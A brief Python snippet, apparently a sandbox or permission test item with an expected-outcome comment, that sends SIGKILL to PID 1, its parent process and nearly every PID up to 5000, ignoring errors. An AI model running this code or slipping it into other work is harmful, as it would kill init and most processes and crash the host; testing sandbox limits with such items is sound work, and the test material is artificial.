# Sends signals to every process.
# holds: completed|raised PermissionError

import os
for pid in {1, os.getppid()} | set(range(2, 5000)) - {os.getpid()}:
    try:
        os.kill(pid, 9)
    except OSError:
        pass
